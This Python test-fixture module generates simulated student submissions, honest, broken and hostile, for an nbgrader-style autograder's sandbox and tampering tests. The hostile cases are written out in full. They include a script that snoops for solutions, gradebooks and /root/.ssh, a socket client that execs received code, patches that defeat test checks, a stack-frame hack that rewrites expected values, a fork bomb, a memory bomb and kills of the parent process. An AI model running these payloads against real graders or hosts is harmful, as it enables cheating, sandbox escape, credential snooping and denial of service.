"""A simulated class for ch01_linear: honest, broken and hostile submissions, each with its grade.

The assignment is a frozen copy of the course's first exercise (ch01_linear/ch01_linear.ipynb
here: linear_scores 3 points, bias_trick 2, network_forward 3, hidden tests with `_own_work`), so
the corpus does not change when the course's chapters do; `make_course` builds a throw-away course
with it and the repository's live nbgrader_config.py.

`write_corpus(course, ctx)` writes every case into course/submitted/<name>/ch01_linear/; `CASES`
holds what each must get from `python -m coursegrade autograde`: the score (out of 8: tasks worth
3, 2 and 3 points) and the problem kinds the report must list. `write_class(course, n)` writes a
larger class for the benchmark (honest, blank and partly wrong submissions, cycled).

ctx: {"port": a TCP port on 127.0.0.1 where the test listens, "course": the course folder,
      "repo": the repository (its solutions/ folder is what a snooping student would look for)}.
"""
import json
import re
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
NAME = "ch01_linear"
SOURCE = Path(__file__).parent / NAME / f"{NAME}.ipynb"
MARKER = re.compile(r"^\s*### (BEGIN|END) (SOLUTION|HIDDEN TESTS)\s*$")

# Passes every visible test but hard-codes three layers, so the hidden 4-layer test fails.
WRONG = {
    "network_forward": '''def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def network_forward(X, params):
    (W1, b1), (W2, b2), (W3, b3) = params[0], params[1], params[-1]
    return sigmoid(sigmoid(X @ W1 + b1) @ W2 + b2) @ W3 + b3
''',
}


def make_course(tmp):
    """A course folder with the live nbgrader_config.py and the frozen assignment as its source."""
    course = Path(tmp) / "course"
    (course / "solutions" / NAME).mkdir(parents=True)
    shutil.copy(ROOT / "nbgrader_config.py", course)
    shutil.copy(SOURCE, course / "solutions" / NAME)
    return course


def solution_sources():
    """grade_id -> source of each solution cell of the instructor's notebook, markers removed."""
    out = {}
    for cell in nbformat.read(SOURCE, as_version=4).cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            out[meta["grade_id"]] = "\n".join(l for l in cell.source.splitlines() if not MARKER.match(l))
    return out


ZEROS = '''def linear_scores(X, W, b):
    return np.zeros(X.shape[:-1] + (W.shape[0],))
'''

SNOOP = '''import glob, json, os
found = []
places = ["../../../gradebook.db", "../../../solutions", "../../../submitted", "../../../autograded",
          "../../../source", "{course}/gradebook.db", "{course}/solutions", "{course}/submitted/correct",
          "{repo}/solutions/ch01_linear/ch01_linear.ipynb", "{repo}/gradebook.db", "/root/.ssh"]
places += glob.glob("*.ipynb") + glob.glob("../*")
for place in places:
    if os.path.exists(place):
        found.append(place)
for place in ["{course}/PWNED", "../../../PWNED", "/tmp/PWNED_coursegrade"]:
    try:
        open(place, "w").write("escaped")
    except OSError:
        pass
print("SNOOP found:", found)
# A cheat that works if the solutions are readable: run the instructor's solution cells.
solution = "{repo}/solutions/ch01_linear/ch01_linear.ipynb"
if os.path.exists(solution):
    for c in json.load(open(solution))["cells"]:
        if c["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(c["source"]))
'''

NETWORK = '''import socket
try:
    conn = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    exec(conn.recv(100000).decode())          # the "answer server" sends working code
    print("NET connected")
except OSError as e:
    print("NET blocked:", type(e).__name__)
'''

PATCH_BUILTINS = '''import builtins, types
_isinstance = isinstance
builtins.isinstance = lambda obj, kind: False if kind is types.ModuleType else _isinstance(obj, kind)
import nnutils.linear as L
def linear_scores(X, W, b):
    return L.linear_scores(X, W, b)
'''

PATCH_NNUTILS = '''from nnutils.linear import linear_scores as _ref
_ref.__module__ = "__main__"        # hide where it comes from
def linear_scores(X, W, b):
    return _ref(X, W, b)
'''

FRAME_TAMPER = '''import sys
def linear_scores(X, W, b):
    frame = sys._getframe(1)                     # find the test's frame (its globals hold `want`)
    while frame is not None and "want" not in frame.f_globals:
        frame = frame.f_back
    if frame is None:
        return X @ W.T + b                       # honest while only the visible tests look
    g = frame.f_globals
    if X.ndim == 1:
        return g["want"][0]
    g["want"] = np.zeros((X.shape[0], W.shape[0]))   # rewrite the hidden test's expected value
    return g["want"]
'''

LOOP_FOREVER = '''while True:          # survives KeyboardInterrupt too
    try:
        pass
    except KeyboardInterrupt:
        pass
'''

KILL_PARENT = '''import os, signal
os.kill(os.getppid(), signal.SIGKILL)
'''
KILL_GROUP = '''import os, signal
os.killpg(0, signal.SIGKILL)
'''

FORK_BOMB = '''import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError as e:
    print("fork stopped after", children, "children:", type(e).__name__)
'''


@dataclass
class Case:
    name: str
    score: float
    problems: set = field(default_factory=set)    # kinds the report must list ({} = none at all)
    needs_bwrap: bool = False                      # expected result holds only inside bubblewrap
    exact: bool = True                             # no other problem kinds allowed


CASES = [
    Case("correct", 8), Case("correct_twin", 8), Case("blank", 0), Case("warns", 8),
    Case("partial", 5), Case("partial_twin", 5),
    Case("loop_in_solution", 5, {"timeout"}),
    Case("loop_in_ungraded_cell", 8, {"timeout"}),
    Case("memory_bomb", 6, {"memory"}),
    Case("fork_bomb", 8, needs_bwrap=True),     # RLIMIT_NPROC does not bind root (fallback as root)
    Case("corrupt_json", 0, {"corrupt"}),
    Case("missing_notebook", 0, {"missing"}),
    Case("deleted_test_cell", 8, {"deleted-cell"}),
    Case("edited_test_cell", 5, {"edited-cell"}),
    Case("patch_allclose", 5, {"tampering", "suspicious"}),
    Case("patch_builtins", 5, {"tampering", "suspicious"}),
    Case("patch_nnutils", 5, {"tampering", "suspicious"}),
    Case("frame_tamper", 5, {"tampering", "suspicious"}),
    Case("kill_parent", 8, {"kernel", "suspicious"}, needs_bwrap=True),
    Case("symlink_to_solutions", 0, {"symlink"}),
    Case("snoop", 0, needs_bwrap=True, exact=False),
    Case("network", 0, needs_bwrap=True, exact=False),
]


def released(course):
    return nbformat.read(Path(course) / "exercises" / NAME / f"{NAME}.ipynb", as_version=4)


def notebook(course, answers, extra=()):
    """The released notebook with `answers` in its solution cells; extra: (position, source) cells."""
    nb = released(course)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    for pos, src in sorted(extra, reverse=True):
        nb.cells.insert(pos if pos >= 0 else len(nb.cells), nbformat.v4.new_code_cell(src))
    return nb


def index_of(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def build(name, course, ctx):
    """The submitted notebook (or raw text) for one case."""
    sol, wrong = solution_sources(), WRONG
    warned = "import warnings\nwarnings.warn('a harmless warning', DeprecationWarning)\n"
    looping = sol["network_forward"].replace("    Z = X\n", "    Z = X\n    while True:\n        pass\n")
    assert looping != sol["network_forward"]
    simple = {
        "correct": sol, "correct_twin": sol, "blank": {}, "partial": {**sol, **wrong},
        "partial_twin": {**sol, **wrong}, "warns": {**sol, "linear_scores": warned + sol["linear_scores"]},
        "loop_in_solution": {**sol, "network_forward": looping},
        "memory_bomb": {**sol, "bias_trick": "big = bytearray(2**40)   # 1 TiB\n" + sol["bias_trick"]},
        "patch_allclose": {**sol, "linear_scores": "np.allclose = lambda *a, **k: True\n" + ZEROS},
        "patch_builtins": {**sol, "linear_scores": PATCH_BUILTINS},
        "patch_nnutils": {**sol, "linear_scores": PATCH_NNUTILS},
        "frame_tamper": {**sol, "linear_scores": FRAME_TAMPER},
    }
    if name == "snoop":
        return notebook(course, {"linear_scores": SNOOP.format(**ctx)})
    if name == "network":
        return notebook(course, {"linear_scores": NETWORK.format(**ctx)})
    if name in simple:
        return notebook(course, simple[name])
    if name == "loop_in_ungraded_cell":
        return notebook(course, sol, [(-1, LOOP_FOREVER)])
    if name == "fork_bomb":
        return notebook(course, sol, [(-1, FORK_BOMB)])
    if name == "kill_parent":
        nb = released(course)
        return notebook(course, sol, [(index_of(nb, "bias_trick"), KILL_PARENT), (index_of(nb, "network_forward"), KILL_GROUP)])
    if name == "corrupt_json":
        return json.dumps(nbformat.v4.writes(notebook(course, sol)))[: 2000]   # truncated JSON
    if name == "missing_notebook":
        return None
    if name == "symlink_to_solutions":      # the "notebook" is the instructor's solution
        return Path(course) / "solutions" / NAME / f"{NAME}.ipynb"
    if name == "deleted_test_cell":
        nb = notebook(course, sol)
        del nb.cells[index_of(nb, "test_bias_trick")]
        return nb
    if name == "edited_test_cell":
        nb = notebook(course, {**sol, **wrong})
        nb.cells[index_of(nb, "test_network_forward")].source = "pass  # my code is fine"
        return nb
    raise KeyError(name)


def write_submission(course, student, nb):
    dest = Path(course) / "submitted" / student / NAME
    dest.mkdir(parents=True, exist_ok=True)
    if isinstance(nb, Path):
        (dest / f"{NAME}.ipynb").symlink_to(nb)
    elif nb is None:
        (dest / "my_notebook_renamed.ipynb").write_text(nbformat.writes(released(course)))
    elif isinstance(nb, str):
        (dest / f"{NAME}.ipynb").write_text(nb)
    else:
        nbformat.write(nb, dest / f"{NAME}.ipynb")


def write_corpus(course, ctx, cases=CASES, bwrap=True):
    """Write every case (without bubblewrap, not those that would really escape or harm)."""
    for case in cases:
        if bwrap or not case.needs_bwrap:
            write_submission(course, case.name, build(case.name, course, ctx))


def write_class(course, n):
    """n ordinary students (correct, partly wrong, blank, cycled) for the benchmark."""
    kinds = ["correct", "partial", "correct", "blank"]
    expected = {}
    for i in range(n):
        kind = kinds[i % len(kinds)]
        student = f"s{i:03d}_{kind}"
        write_submission(course, student, build(kind, course, {}))
        expected[student] = {"correct": 8.0, "partial": 5.0, "blank": 0.0}[kind]
    return expected
